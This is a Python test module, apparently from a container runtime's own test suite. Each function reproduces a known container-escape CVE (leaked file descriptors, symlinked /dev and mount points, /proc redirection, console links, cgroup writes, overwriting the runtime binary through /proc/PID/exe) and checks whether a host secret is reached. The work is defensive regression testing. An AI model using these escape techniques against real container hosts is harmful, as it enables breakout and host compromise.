"""escapes.py — ways out of a container that once led out of some runtime.

Each is a function of a Bundle and a secret file of the host's. It answers whether it
got out. The races try for some seconds.
"""
import contextlib
import hashlib
import os
import shutil
import time

from support import programs

LEAKING = ["sh", "-c", 'exec 7</; exec "$@"', "leaking"]  # the host's root, left open
SLEEP = ["/bin/sleep", "1000"]
BUSYBOX_ALONE = "''|*/busybox"


def start(bundle):
    name = bundle.create()
    bundle.tinrun("start", name).expect(status=0)
    return name


def working_directory(bundle, secret):
    """CVE-2024-21626"""
    bundle.process["cwd"] = "/proc/self/fd/7"
    told = bundle.shell(f"cat .{secret}", prefix=LEAKING)
    return secret.read_text() in told.stdout


def working_directory_of_exec(bundle, secret):
    """CVE-2024-21626, by exec"""
    bundle.process["args"] = SLEEP
    exec_there = bundle.argv("exec", "--cwd", "/proc/self/fd/7", start(bundle), "cat")
    told = programs.run(*LEAKING, *exec_there, f".{secret}", who=bundle.who)
    return secret.read_text() in told.stdout


def descriptor(bundle, secret):
    """CVE-2024-21626, a descriptor of the caller's or of the runtime's"""
    told = bundle.shell(f"for n in 3 4 5 6 7 8 9 10 11 12; do"
                        f" cat /proc/self/fd/$n{secret}; done", prefix=LEAKING)
    return secret.read_text() in told.stdout


def mask(bundle, secret):
    """CVE-2025-31133: what masks is a link of the image's"""
    (bundle.rootfs / "dev/null").symlink_to(secret)
    bundle.config["mounts"] = [one for one in bundle.config["mounts"]
                               if not one["destination"].startswith("/dev")]
    bundle.linux["maskedPaths"] = ["/proc/version"]
    return secret.read_text() in bundle.shell("cat /proc/version").stdout


def outside_of(bundle):
    """An empty directory that is no part of the root."""
    outside = bundle.path / "outside"
    outside.mkdir()
    os.chown(outside, bundle.who.uid, bundle.who.gid)
    return outside


def devices(bundle, _):
    """CVE-2026-41579, CVE-2026-47766: /dev is a link of the image's"""
    outside = outside_of(bundle)
    (bundle.rootfs / "dev").rmdir()
    (bundle.rootfs / "dev").symlink_to(outside)
    bundle.config["mounts"] = [one for one in bundle.config["mounts"]
                               if not one["destination"].startswith("/dev")]
    bundle.shell("true")
    return os.listdir(outside) != []


def mount_point(bundle, _):
    """CVE-2021-30465, CVE-2024-45310: a link in the path to a mount point"""
    outside = outside_of(bundle)
    (bundle.rootfs / "data").symlink_to(outside)
    bundle.config["mounts"].append({"destination": "/data/new", "type": "bind",
                                    "source": "/etc/hostname", "options": ["bind"]})
    bundle.shell("true")
    return os.listdir(outside) != []


def setting(bundle, secret):
    """CVE-2025-52881: what is written to /proc lands in another file"""
    volume = outside_of(bundle)
    (volume / "ipv4").mkdir()
    (volume / "ipv4/ip_default_ttl").symlink_to(secret)
    before = secret.read_text()
    bundle.config["mounts"].append({"destination": "/proc/sys/net", "type": "bind",
                                    "source": str(volume), "options": ["bind"]})
    bundle.linux["sysctl"] = {"net.ipv4.ip_default_ttl": "77"}
    bundle.shell("true")
    return secret.read_text() != before


def console(bundle, secret):
    """CVE-2025-52565: the container's own /dev/pts, with a link for a terminal"""
    volume = outside_of(bundle)
    (volume / "ptmx").symlink_to("../../real/ptmx")
    (volume / "0").symlink_to(secret)
    mounts = [one for one in bundle.config["mounts"]
              if one["destination"] != "/dev/pts"]
    terminals = next(one for one in bundle.config["mounts"]
                     if one["destination"] == "/dev/pts")
    bundle.config["mounts"] = [
        *mounts, terminals | {"destination": "/real"},
        {"destination": "/dev/pts", "type": "bind", "source": str(volume),
         "options": ["bind"]}]
    bundle.process["terminal"] = True
    before = secret.read_text()
    told = bundle.shell("echo out; head -n 1 /dev/console", stdin="\n")
    return before in told.stdout or secret.read_text() != before


def inheritable_powers(bundle, _):
    """CVE-2022-29162, CVE-2022-27650: what a program may pass on"""
    bundle.process["args"] = SLEEP
    told = bundle.tinrun("exec", "--cap", "CAP_KILL", start(bundle), "grep", "CapInh",
                         "/proc/self/status")
    return "1" in told.stdout or "2" in told.stdout


def control_groups(bundle, _):
    """CVE-2023-25809: groups of the host's that can be written to"""
    bundle.config["mounts"] = [*bundle.config["mounts"], {
        "destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup"}]
    told = bundle.shell("for d in /sys/fs/cgroup /sys/fs/cgroup/*; do"
                        " mkdir $d/new && rmdir $d/new && echo out; done")
    return "out" in told.stdout


def digest(path):
    return hashlib.sha256(path.read_bytes()).digest()


def own_executable(bundle, _, seconds):
    """CVE-2019-5736: /proc/PID/exe, opened while it runs, written when it does not"""
    own = bundle.path / "runtime"
    shutil.copy(bundle.program, own)
    os.chown(own, bundle.who.uid, bundle.who.gid)
    before, bundle.program = digest(own), own
    every = [f"CAP_{name}" for name in (
        "CHOWN DAC_OVERRIDE FOWNER KILL SYS_PTRACE SYS_CHROOT SYS_ADMIN").split()]
    bundle.process["capabilities"] = {
        kind: every for kind in ("bounding", "permitted", "effective")}
    bundle.process["args"] = ["/bin/sh", "-c", f"""
        while :; do for p in /proc/[0-9]*; do
          case "$(readlink $p/exe)" in {BUSYBOX_ALONE}) continue;; esac
          (exec 7<$p/exe; echo seen >>/tmp/seen; n=0
           while [ $n -lt 5000 ] && ! printf X 1<>/proc/self/fd/7
           do n=$((n+1)); done) &
        done; done 2>/dev/null"""]
    name, end = start(bundle), time.monotonic() + seconds
    while digest(own) == before and time.monotonic() < end:
        with contextlib.suppress(OSError):  # ETXTBSY, ENOEXEC: it is just being written
            programs.run(*bundle.argv("exec", name, "/bin/true"), who=bundle.who)
    is_written = digest(own) != before
    if is_written:
        shutil.copy(bundle.original, own)  # so that it can still delete
    return is_written


def mount_point_in_a_race(bundle, _, seconds):
    """CVE-2021-30465: another container turns the path into a link meanwhile"""
    outside, volume = outside_of(bundle), bundle.path / "volume"
    volume.mkdir()
    os.chown(volume, bundle.who.uid, bundle.who.gid)
    bundle.config["mounts"].append({"destination": "/vol", "type": "bind",
                                    "source": str(volume), "options": ["bind"]})
    bundle.process["args"] = ["/bin/sh", "-c", f"""
        while :; do mkdir /vol/d; rm -rf /vol/d; ln -s {outside} /vol/d; rm /vol/d; done
        """]
    start(bundle)
    bundle.config["mounts"].append({"destination": "/vol/d/new", "type": "bind",
                                    "source": "/etc/hostname", "options": ["bind"]})
    end = time.monotonic() + seconds
    while not os.listdir(outside) and time.monotonic() < end:
        bundle.shell("true")
    return os.listdir(outside) != []


# control_groups asks for groups of a test's own, and is tried beside these.
AT_ONCE = [working_directory, working_directory_of_exec, descriptor, mask, devices,
           mount_point, setting, console, inheritable_powers]
RACES = [own_executable, mount_point_in_a_race]
